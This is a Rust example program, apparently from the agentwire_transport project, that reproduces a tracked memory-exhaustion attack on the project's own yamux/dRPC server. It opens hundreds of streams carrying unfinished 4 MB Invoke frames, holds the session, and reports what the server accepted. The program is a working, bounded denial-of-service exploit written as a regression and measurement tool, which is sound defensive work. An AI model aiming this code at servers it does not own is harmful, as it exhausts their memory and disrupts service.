//! The memory attack of issue 15, against a running server's plain-TCP yamux listener (`serve --tcp-listen`): one
//! session opens `--streams` streams and sends on each the start of a dRPC Invoke frame declaring 4,193,280 bytes,
//! then as much of its body as the server's windows allow (up to `--per-stream` bytes), never finishing a frame.
//! Bounded: it stops sending when every stream is done or stuck for `--stall-ms`, then holds the session (as an
//! attacker would) until the server ends it or `--seconds` have passed. Prints one JSON line: bytes the server took, streams opened, GoAway codes, and whether the session
//! was still open.
//!
//!   cargo run --release --example memory_attack -- --addr 127.0.0.1:4000 --streams 500

use std::collections::HashMap;
use std::time::{Duration, Instant};

use agentwire_transport::testing::drpc_packets::drpc_frame;
use agentwire_transport::testing::yamux_frames::{data, parse_frames, syn_data, FLAG_FIN, FLAG_RST, TYPE_DATA};
use agentwire_transport::testing::yamux_frames::{TYPE_GO_AWAY, TYPE_WINDOW_UPDATE};
use agentwire_transport::wire::Kind;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const DECLARED: usize = 4_193_280;
const WINDOW: u64 = 256 * 1024;
const CHUNK: usize = 64 * 1024;

struct Args {
    addr: String,
    streams: u32,
    per_stream: usize,
    stall: Duration,
    seconds: u64,
}

fn parse_args() -> anyhow::Result<Args> {
    let mut args = Args {
        addr: "127.0.0.1:4000".into(),
        streams: 500,
        per_stream: DECLARED - 1,
        stall: Duration::from_millis(2000),
        seconds: 60,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let value = it.next().ok_or_else(|| anyhow::anyhow!("{flag} needs a value"))?;
        match flag.as_str() {
            "--addr" => args.addr = value,
            "--streams" => args.streams = value.parse()?,
            "--per-stream" => args.per_stream = value.parse::<usize>()?.min(DECLARED - 1),
            "--stall-ms" => args.stall = Duration::from_millis(value.parse()?),
            "--seconds" => args.seconds = value.parse()?,
            other => anyhow::bail!("unknown flag {other}"),
        }
    }
    Ok(args)
}

#[derive(Default)]
struct Stream {
    sent: usize,
    credit: u64,
    ended: bool,
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let args = parse_args()?;
    let frame = drpc_frame(1, 1, Kind::Invoke, false, true, &vec![b'/'; DECLARED]);
    let mut tcp = TcpStream::connect(&args.addr).await?;
    tcp.set_nodelay(true)?;
    let ids: Vec<u32> = (0..args.streams).map(|i| 2 * i + 1).collect();
    let mut streams: HashMap<u32, Stream> =
        ids.iter().map(|&id| (id, Stream { credit: WINDOW, ..Stream::default() })).collect();
    let mut inbox = Vec::new();
    let mut go_aways = Vec::new();
    let mut open = true;
    let deadline = Instant::now() + Duration::from_secs(args.seconds);
    let started = Instant::now();
    'attack: while Instant::now() < deadline {
        let mut progressed = false;
        for id in &ids {
            let Some(stream) = streams.get_mut(id) else { continue };
            let take = (stream.credit as usize - stream.sent.min(stream.credit as usize))
                .min(CHUNK)
                .min(args.per_stream.saturating_sub(stream.sent));
            if stream.ended || take == 0 {
                continue;
            }
            let chunk = &frame[stream.sent..stream.sent + take];
            let bytes = if stream.sent == 0 { syn_data(*id, chunk) } else { data(*id, chunk) };
            if tcp.write_all(&bytes).await.is_err() {
                open = false;
                break 'attack;
            }
            stream.sent += take;
            progressed = true;
        }
        if streams.values().all(|s| s.ended || s.sent >= args.per_stream) {
            break;
        }
        if progressed {
            continue;
        }
        let mut buf = vec![0u8; 64 * 1024];
        match tokio::time::timeout(args.stall, tcp.read(&mut buf)).await {
            Err(_) => break,
            Ok(Ok(0)) | Ok(Err(_)) => {
                open = false;
                break;
            }
            Ok(Ok(n)) => {
                inbox.extend_from_slice(&buf[..n]);
                for frame in parse_frames(&mut inbox) {
                    match frame.kind {
                        TYPE_GO_AWAY => go_aways.push(frame.length),
                        TYPE_WINDOW_UPDATE | TYPE_DATA => {
                            if let Some(stream) = streams.get_mut(&frame.stream) {
                                if frame.kind == TYPE_WINDOW_UPDATE {
                                    stream.credit += u64::from(frame.length);
                                }
                                stream.ended |= frame.has(FLAG_FIN) || frame.has(FLAG_RST);
                            }
                        }
                        _ => {}
                    }
                }
            }
        }
    }
    // Hold the session, reading what the server says (a GoAway, the end of the connection), until it ends it.
    while open && Instant::now() < deadline {
        let mut buf = vec![0u8; 64 * 1024];
        match tokio::time::timeout(Duration::from_millis(200), tcp.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => open = false,
            Ok(Ok(n)) => {
                inbox.extend_from_slice(&buf[..n]);
                go_aways.extend(parse_frames(&mut inbox).iter().filter(|f| f.kind == TYPE_GO_AWAY).map(|f| f.length));
            }
            Err(_) => {}
        }
    }
    let sent: usize = streams.values().map(|s| s.sent).sum();
    let opened = streams.values().filter(|s| s.sent > 0).count();
    println!(
        "{{\"sent_bytes\":{sent},\"streams_opened\":{opened},\"go_aways\":{go_aways:?},\"session_open\":{open},\"seconds\":{:.2}}}",
        started.elapsed().as_secs_f64()
    );
    let _ = tcp.shutdown().await;
    Ok(())
}
